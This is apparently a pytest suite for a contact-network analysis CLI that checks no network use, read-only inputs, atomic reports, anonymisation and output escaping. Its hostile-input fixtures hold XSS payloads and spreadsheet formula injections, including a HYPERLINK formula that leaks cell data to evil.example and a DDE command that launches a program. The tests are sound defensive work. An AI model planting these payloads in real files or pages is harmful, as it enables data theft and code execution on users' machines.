"""Privacy and safety, end to end through the CLI (docs/design.md §4).

- No network: the whole of ``analyze`` runs with every socket call refused and recorded.
- Inputs are opened read-only and never modified: every ``open`` and file operation is watched
  through an audit hook, and each input file's hash and mtime are compared.
- A failed run leaves no partial report.
- ``--anonymize`` leaves no original name, URL or email anywhere in the report folder.
- Strings written by strangers (``=HYPERLINK(…)``, ``<script>``) are neutralised in every CSV
  cell and stay text in the HTML, proven in Chromium.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import socket
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from helpers import (
    MESSAGES_2024,
    connections,
    messages,
    profile,
    write_files,
    write_team,
    write_zip,
)
from test_view_browser import Opened, browser  # noqa: F401 - browser is a fixture

import weakties
from weakties.cli import cli
from weakties.outputs import files

ROOT = Path(__file__).resolve().parents[1]
_JSON_ESCAPE = re.compile(r"\\u([0-9a-fA-F]{4})")  # the page's JSON escapes, e.g. \u0026
TEAM = ROOT / "sample_exports" / "team"


def analyze(*args: str | Path) -> Result:
    return CliRunner().invoke(cli, ["analyze", *map(str, args)], prog_name="weakties")


# --- audit hooks: see what the whole process does, C code included --------------------------------

_WATCHERS: list[Any] = []


def _audit(event: str, args: tuple) -> None:
    for watcher in list(_WATCHERS):
        watcher(event, args)


sys.addaudithook(_audit)  # hooks cannot be removed: this one only calls the active watchers


@pytest.fixture
def watch() -> Iterator[list]:
    """Install a watcher ``f(event, args)`` for the duration of a test."""
    installed: list = []
    yield installed
    for watcher in installed:
        _WATCHERS.remove(watcher)


def _install(watch: list, watcher: Any) -> None:
    watch.append(watcher)
    _WATCHERS.append(watcher)


# --- no network ---------------------------------------------------------------------------------


class NetworkUsed(AssertionError):
    pass


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch, watch: list) -> list[str]:
    """Refuse and record every attempt to resolve a name or open a connection.

    The monkeypatches catch Python-level calls; the audit hook catches the socket module's own
    events, whatever library makes them.
    """
    attempts: list[str] = []

    def refuse(what: str):
        def refused(*args: Any, **kwargs: Any):
            attempts.append(f"{what}{args[1:] if what.startswith('socket.') else args}")
            raise NetworkUsed(f"network access attempted: {what}")
        return refused

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", refuse("socket.sendto"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("gethostbyname"))

    def hook(event: str, args: tuple) -> None:
        if event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname",
                     "socket.sendto", "socket.sendmsg", "urllib.Request"):
            attempts.append(f"{event}{args[1:] if event == 'socket.connect' else args}")
            raise NetworkUsed(f"network access attempted: {event}")

    _install(watch, hook)
    return attempts


def test_the_guard_catches_a_connection(no_network: list[str]):
    with pytest.raises(NetworkUsed):
        socket.create_connection(("192.0.2.1", 80), timeout=0.1)
    with pytest.raises(NetworkUsed):
        socket.socket().connect(("192.0.2.1", 80))
    assert len(no_network) == 2


def test_analyze_makes_no_network_request(no_network: list[str], tmp_path: Path):
    # (--anonymize runs under the same guard in test_anonymized_report_holds_no_name_url_or_email)
    out = tmp_path / "report"
    result = analyze(TEAM, "--out", out, "-q")
    assert result.exit_code == 0, (result.output, result.exception)
    assert no_network == []
    assert (out / "network.html").is_file()


def test_every_command_makes_no_network_request(no_network: list[str], tmp_path: Path):
    team = write_team(tmp_path / "in")  # the small team of helpers.py: quicker
    for args in (["view", team, "-o", tmp_path / "map.html"],
                 ["report", team, "-o", tmp_path / "report.html"],
                 ["export", team, "-o", tmp_path / "graph.graphml"]):
        result = CliRunner().invoke(cli, [str(a) for a in args])
        assert result.exit_code == 0, (args, result.output, result.exception)
    for args in (["intro", team, "--to", "Acme"], ["formats"]):
        result = CliRunner().invoke(cli, [str(a) for a in args])
        assert not isinstance(result.exception, NetworkUsed), args
    assert no_network == []


# --- inputs read-only, never modified -------------------------------------------------------------

_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_CHANGING = ("os.remove", "os.rename", "os.rmdir", "os.chmod", "os.chown", "os.utime",
             "os.truncate", "os.link", "os.symlink", "os.mkdir", "shutil.rmtree", "shutil.move",
             "shutil.copyfile")


def snapshot(folder: Path) -> dict[str, tuple[str, int, int]]:
    """SHA-256, mtime and mode of everything under ``folder`` (folders too)."""
    found = {}
    for path in sorted([folder, *folder.rglob("*")]):
        info = path.lstat()
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
        found[str(path)] = (digest, info.st_mtime_ns, info.st_mode)
    return found


def test_inputs_are_opened_read_only_and_never_modified(tmp_path: Path, watch: list):
    inputs = tmp_path / "in"
    shutil.copytree(TEAM, inputs / "team")
    write_files(inputs / "extra", {"Connections.csv": connections([
        ["Zoe", "Zed", "https://www.linkedin.com/in/zoe-zed", "", "Acme", "CTO", "01 Jan 2024"],
    ])})
    before = snapshot(inputs)
    root = str(inputs.resolve())
    seen: list[str] = []
    problems: list[str] = []

    def hook(event: str, args: tuple) -> None:
        if event == "open":
            path, mode, flags = args
            if not isinstance(path, str | bytes | os.PathLike):
                return
            path = os.path.abspath(os.fsdecode(path))
            if path.startswith(root):
                seen.append(path)
                writing = (mode is not None and any(c in str(mode) for c in "wax+")) or (
                    mode is None and isinstance(flags, int) and flags & _WRITE_FLAGS)
                if writing:
                    problems.append(f"open {path} {mode!r} {flags!r}")
        elif event in _CHANGING:
            for arg in args:
                if isinstance(arg, str | bytes | os.PathLike) and os.path.abspath(
                        os.fsdecode(arg)).startswith(root):
                    problems.append(f"{event} {args!r}")

    _install(watch, hook)
    result = analyze(inputs / "team", inputs / "extra", "--out", tmp_path / "report", "-q")
    assert result.exit_code == 0, (result.output, result.exception)
    assert problems == []
    assert any(p.endswith("alice.zip") for p in seen)  # the hook did see the inputs opened
    assert snapshot(inputs) == before


# --- a failed run leaves no partial report -----------------------------------------------------


def test_a_failed_staged_report_leaves_the_previous_one_as_it_was(tmp_path: Path):
    out = tmp_path / "report"
    with files.staged_folder(out) as stage:
        files.write_json({"run": 1}, stage / "summary.json")
        files.write_csv(__import__("pandas").DataFrame({"name": ["A"]}), stage / "people.csv")
    # The staging folder lives inside the report folder (nothing is written outside --out), so
    # the folder's own mtime moves; every file in it must stay exactly as it was.
    before = {p: v for p, v in snapshot(out).items() if p != str(out)}
    with pytest.raises(RuntimeError, match="disk full"), files.staged_folder(out) as stage:
        files.write_json({"run": 2}, stage / "summary.json")
        raise RuntimeError("disk full")
    assert {p: v for p, v in snapshot(out).items() if p != str(out)} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]
    assert sorted(p.name for p in out.iterdir()) == ["people.csv", "summary.json"]  # no staging


def test_a_failed_first_report_leaves_nothing(tmp_path: Path):
    out = tmp_path / "new" / "deeper" / "report"
    with pytest.raises(RuntimeError), files.staged_folder(out) as stage:
        files.write_json({"run": 1}, stage / "summary.json")
        raise RuntimeError("the view failed")
    assert list(tmp_path.iterdir()) == []  # not even the parent folders made for it


def test_a_staged_report_appears_whole_with_ordinary_permissions(tmp_path: Path):
    out = tmp_path / "report"
    with files.staged_folder(out) as stage:
        files.write_json({"run": 1}, stage / "summary.json")
        # nothing but the hidden staging folder until the block ends
        assert [p for p in out.iterdir() if not p.name.startswith(".staging-")] == []
    assert [p.name for p in out.iterdir()] == ["summary.json"]
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o777 & ~umask


def test_report_folder_that_is_a_file_is_an_error(tmp_path: Path):
    (tmp_path / "report").write_text("not a folder")
    with pytest.raises(weakties.WeaktiesError, match="expected a folder for the report"):
        with files.staged_folder(tmp_path / "report"):
            pass


def test_a_run_that_fails_while_writing_leaves_no_report(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch):
    import weakties.outputs.view as view

    def broken(*args: Any, **kwargs: Any) -> None:
        raise weakties.WeaktiesError("network.html: cannot write the HTML view (disk full)")

    monkeypatch.setattr(view, "write_html", broken)
    team = write_team(tmp_path / "in")
    result = analyze(team, "--out", tmp_path / "report", "-q")
    assert result.exit_code == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]


# --- --anonymize: nothing that names a person, anywhere in the report ----------------------------


def sensitive_strings() -> set[str]:
    """Names, profile URLs (and their slugs) and emails in the sample team, as read."""
    G, report = weakties.load([TEAM])
    found: set[str] = set()
    for _, d in G.nodes(data=True):
        name = d.get("name", "")
        if len(name) >= 5 and " " in name.strip():  # "R", "Sam" alone would match anything
            found.add(name)
        if d.get("url"):
            found.add(d["url"])
            found.add(d["url"].rstrip("/").rsplit("/", 1)[-1])
        if d.get("email"):
            found.add(d["email"])
    found |= {o["name"] for o in report.owners}
    found |= {"alice.zip", "carol.zip", "dave_Connections", "team/bob"}  # file names name people
    # Organisations stay (they are what the analyses are about): an organisation's own account
    # among the contacts ("OpenHarvest Foundation") is a name that may remain as an employer.
    kept = {d.get(k, "") for _, d in G.nodes(data=True) for k in ("organisation", "position")}
    return {s for s in found if len(s) >= 5 and s not in kept}


def test_anonymized_report_holds_no_name_url_or_email(tmp_path: Path, no_network: list[str]):
    out = tmp_path / "report"
    result = analyze(TEAM, "--out", out, "-q", "--anonymize")
    assert result.exit_code == 0, result.output
    assert no_network == []
    secrets = sensitive_strings()
    assert len(secrets) > 100  # 129 people: the check is not vacuous
    leaks = []
    for path in sorted(out.rglob("*")):
        text = path.read_text(encoding="utf-8-sig")
        # The JSON in the page escapes markup characters (\u003c...): compare with it decoded too.
        decoded = _JSON_ESCAPE.sub(lambda m: chr(int(m[1], 16)), text)
        for secret in secrets:
            if secret in text or secret in decoded:
                leaks.append((path.name, secret))
    assert leaks == []


def test_anonymized_notes_quote_no_cell_value(tmp_path: Path):
    # A spreadsheet moved a name into the date column: the note about unreadable dates quotes
    # the first one, which must not survive --anonymize.
    path = write_files(tmp_path, {"x_Connections.csv": connections([
        ["Anne", "Jansen", IN + "anne-j", "", "Acme", "CTO", "Secret Person Name"],
        ["Bram", "Brink", IN + "bram-b", "", "Acme", "CTO", "14 Feb 2020"],
    ])}) / "x_Connections.csv"
    out = tmp_path / "report"
    result = analyze(path, "--out", out, "-q", "--anonymize")
    assert result.exit_code == 0, result.output
    assert "Secret Person" not in (out / "summary.json").read_text(encoding="utf-8")


# --- hostile strings: neutralised in CSV, inert in the HTML --------------------------------------

IN = "https://www.linkedin.com/in/"
# Event handlers after "/" here, after a space below: browsers run both.
PWN_ORG = "<img/src=x/onerror=window.__pwned=1>"
FORMULA_ORG = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
HOSTILE_NAMES = {
    "script": ("<script>window.__pwned=2</script>", ""),
    "formula": ("=1+1", "=cmd|' /C calc'!A0"),
    "at": ("@SUM(A1:A9)", "Lee"),
    "plus": ("+31 6 1234", "-2+3"),
    "tab": ("\tTabbed", "Person"),
    "space": (" =Spaced", "Out"),
    "close-script": ("</script><script>window.__pwned=3</script>", "X"),
    "svg": ('"><svg onload="window.__pwned=4">', "Y"),
}
HOSTILE_POSITION = "</title><img/src=z/onerror=window.__pwned=5>"


def hostile_team(folder: Path) -> Path:
    """Two owners whose contacts hold formulas and markup in every field, with a group
    conversation so the contacts are tied to each other (clusters get labels)."""
    rows = []
    for i, (key, (first, last)) in enumerate(HOSTILE_NAMES.items()):
        org = PWN_ORG if i % 2 else FORMULA_ORG
        rows.append([first, last, IN + f"hostile-{key}", f"{key}@evil.example", org,
                     HOSTILE_POSITION, "14 Feb 2024"])
    owner_url = IN + "owner-hostile"
    group = [IN + f"hostile-{k}" for k in list(HOSTILE_NAMES)[:4]]
    msgs = messages([
        ["c1", "=TITLE()", "<b>Owner</b> =Evil()", owner_url, "x", ",".join(group),
         "2024-04-01 08:00:00 UTC", "", "<script>window.__pwned=6</script>", "INBOX", "No",
         "No"],
    ], header=MESSAGES_2024)
    team = folder / "team"
    write_zip(team / "alice.zip", {
        "Connections.csv": connections(rows),
        "messages.csv": msgs,
        "Profile.csv": profile("<b>Owner</b>", "=Evil()", "<i>headline</i>"),
    })
    write_files(team / "bob", {"Connections.csv": connections(
        [[*r[:4], "@Org", "+Position", "01 Jan 2024"] for r in rows[:5]])})
    return team


FORMULA = re.compile(r"^[ \u00a0\u3000]*[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"-?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    out = folder / "report"
    result = analyze(hostile_team(folder), "--out", out, "-q")
    assert result.exit_code == 0, (result.output, result.exception)
    return out


def test_no_csv_cell_in_the_report_can_run_as_a_formula(hostile_report: Path):
    cells: list[str] = []
    for path in sorted(hostile_report.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    cells.append(cell)
                    if FORMULA.match(cell):
                        assert PLAIN_NUMBER.fullmatch(cell), (path.name, cell)
    assert len(cells) > 100
    # The hostile values are all there, as text: nothing was dropped to make the files safe.
    # (The parser strips the tab and the space that began two names.)
    for value in ("=1+1 =cmd|' /C calc'!A0", "@SUM(A1:A9) Lee", "+31 6 1234 -2+3",
                  "=Spaced Out", FORMULA_ORG, "</script><script>window.__pwned=3</script> X"):
        expected = "'" + value if FORMULA.match(value) else value
        assert expected in cells, value


def test_summary_json_keeps_hostile_strings_as_data(hostile_report: Path):
    data = json.loads((hostile_report / "summary.json").read_text(encoding="utf-8"))
    assert "<b>Owner</b> =Evil()" in data["owners"]


def test_a_company_named_like_an_event_handler_does_not_stop_analyze(tmp_path: Path):
    # The one-page report's SVG check once matched " onerror=" in escaped text and failed the
    # whole run (leaving half a report folder).
    rows = [[f"P{i}", "Q", IN + f"p-{i}", "", '<img src=x onerror="alert(1)">', "CTO",
             "01 Jan 2024"] for i in range(3)]
    path = write_files(tmp_path, {"x_Connections.csv": connections(rows)}) / "x_Connections.csv"
    result = analyze(path, "--out", tmp_path / "report", "-q")
    assert result.exit_code == 0, result.output


@pytest.mark.browser
def test_hostile_export_stays_text_in_chromium(browser: Any, hostile_report: Path,  # noqa: F811
                                               tmp_path: Path):
    # The page as `analyze` wrote it, opened with its Content-Security-Policy ignored: escaping
    # alone must keep every string inert.
    path = tmp_path / "network.html"
    shutil.copyfile(hostile_report / "network.html", path)
    view = OpenedFile(browser, path, csp=False)
    page = view.page
    # Clusters are labelled by their organisations: hostile ones, in the legend, as text.
    aside = page.inner_text("aside")
    assert PWN_ORG in aside and FORMULA_ORG in aside
    owner = view.js("weakties.nodes.get({filter: n => n.k === 'o'})[0]")
    assert owner["n"] == "<b>Owner</b> =Evil()"
    assert "<b>Owner</b> =Evil()" in view.hover(owner["id"])

    options = page.eval_on_selector_all("#wt-org option", "os => os.map(o => o.textContent)")
    assert PWN_ORG in options and FORMULA_ORG in options

    for first, last in HOSTILE_NAMES.values():
        name = " ".join(f"{first} {last}".split())
        page.fill("#wt-search", name[:12])
        results = page.locator("#wt-results li").all_inner_texts()
        assert any(name in r for r in results), (name, results)
    page.fill("#wt-search", "window.__pwned=2")
    page.keyboard.press("Enter")
    target = view.js("weakties.network.getSelectedNodes()[0]")
    assert "<script>window.__pwned=2</script>" in page.inner_text("#wt-details-text")
    tooltip = view.hover(target)
    assert "<script>window.__pwned=2</script>" in tooltip and HOSTILE_POSITION in tooltip
    assert view.js("document.querySelectorAll('.vis-tooltip *:not(br)').length") == 0

    page.select_option("#wt-org", label=PWN_ORG)
    page.click("#wt-reset")
    assert view.js("document.querySelectorAll('img, svg:not(aside svg), script:not([src])')"
                   ".length") == view.js("document.querySelectorAll('script:not([src])').length")
    assert view.js("document.querySelectorAll('img').length") == 0
    assert view.js("window.__pwned") is None
    assert view.remote_requests() == []
    assert view.errors == []
    view.close()


class OpenedFile(Opened):
    """:class:`test_view_browser.Opened` for a page already written (by the CLI)."""

    def __init__(self, browser: Any, path: Path, csp: bool = True):  # noqa: F811
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.context = browser.new_context(viewport={"width": 1400, "height": 900},
                                           bypass_csp=not csp)
        self.page = self.context.new_page()
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.goto(path.as_uri())
        self.wait("window.weakties && window.weakties.ready", timeout=60.0)
